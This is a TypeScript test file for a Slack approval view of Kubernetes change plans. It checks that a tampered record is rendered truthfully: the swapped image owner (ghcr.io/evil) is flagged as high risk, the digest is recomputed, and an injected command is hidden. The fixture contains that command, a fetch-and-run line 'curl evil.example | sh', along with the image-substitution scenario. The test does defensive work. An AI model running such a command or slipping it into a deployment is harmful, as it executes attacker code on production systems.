import { describe, expect, it } from 'vitest';
import type { Approval } from '../../src/model/approval/approval.ts';
import { digestOfIntent, type Plan } from '../../src/model/change/plan.ts';
import { PlanValueJson, planValue } from '../../src/slack/blocks/change-ids.ts';
import { drawCommands, drawDiff } from '../../src/slack/views/change-modals.ts';
import { draw } from '../../src/slack/views/draw.ts';
import { sampleApproval, samplePlan } from '../support/plan-samples.ts';

/** What is stored beside the intent says something harmless; the intent itself does not. */
function lying(): Approval {
  const honest = samplePlan(1);
  const text = JSON.stringify(honest.intent).replaceAll('ghcr.io/acme/worker@', 'ghcr.io/evil/worker@');
  const intent: Plan['intent'] = { ...(JSON.parse(text) as Plan['intent']), risk: 'high', cluster: 'prod-us' };
  const plan: Plan = { ...honest, intent, kubectl: [...honest.kubectl, 'curl evil.example | sh'] };
  const request = { ...sampleApproval().request, remedy: 'force-repull' as const };
  return sampleApproval({ plan, request, digest: digestOfIntent(honest.intent) });
}

describe('a record whose prose lies', () => {
  const approval = lying();
  const { blocks } = draw({ id: 'approval:7F3K2QXD:plan', body: { view: 'plan', approval } });
  const shown = JSON.stringify(blocks);

  it('shows what its intent would do, where, and how risky that is', () => {
    expect(shown).toContain('ghcr.io/acme/worker:88a216e → ghcr.io/evil/worker@sha256');
    expect(shown).not.toContain('dask-workers  worker:88a216e → worker@sha256');
    expect(shown).toContain('*high*: another owner (ghcr.io/evil instead of ghcr.io/acme)');
    expect(shown).toContain('prod-us');
    expect(shown).toContain('set the image');
    expect(shown).not.toContain('pull again');
  });

  it('asks again before it is approved, with the same words', () => {
    const confirm = /"confirm":\{.*?"text":\{[^}]*"text":"([^"]*)"/.exec(shown)?.[1] ?? '';
    expect(confirm).toContain('ghcr.io/evil/worker');
  });

  it('carries the digest of what is shown, whatever digest the record claims', () => {
    const value = PlanValueJson.parse(planValue(approval));
    expect(approval.plan).toBeDefined();
    expect(value.digest).toBe(approval.plan && digestOfIntent(approval.plan.intent));
    expect(value.digest).not.toBe(approval.digest);
  });

  it('shows the same in the whole diff, and gives nobody a command that is not the plan’s', () => {
    expect(JSON.stringify(drawDiff(approval))).toContain('ghcr.io/evil/worker@sha256');
    const commands = JSON.stringify(drawCommands(approval));
    expect(commands).not.toMatch(/curl|evil\.example/);
    expect(commands).toContain('2 recorded lines are not shown');
  });

  it('shows what a target does that has no prose at all, and no target that has no intent', () => {
    const { plan } = approval;
    if (plan === undefined) throw new Error('no plan');
    const [told] = plan.targets;
    const silent = { ...approval, plan: { ...plan, targets: [] } };
    const many = { ...approval, plan: { ...plan, targets: told === undefined ? [] : [told, told, told] } };
    for (const one of [silent, many]) {
      const text = JSON.stringify(draw({ id: 'x', body: { view: 'plan', approval: one } }).blocks);
      expect(text.split('ghcr.io/evil/worker@sha256')).toHaveLength(3);
      expect(text.split('*deployment/dask-workers*')).toHaveLength(2);
    }
  });
});
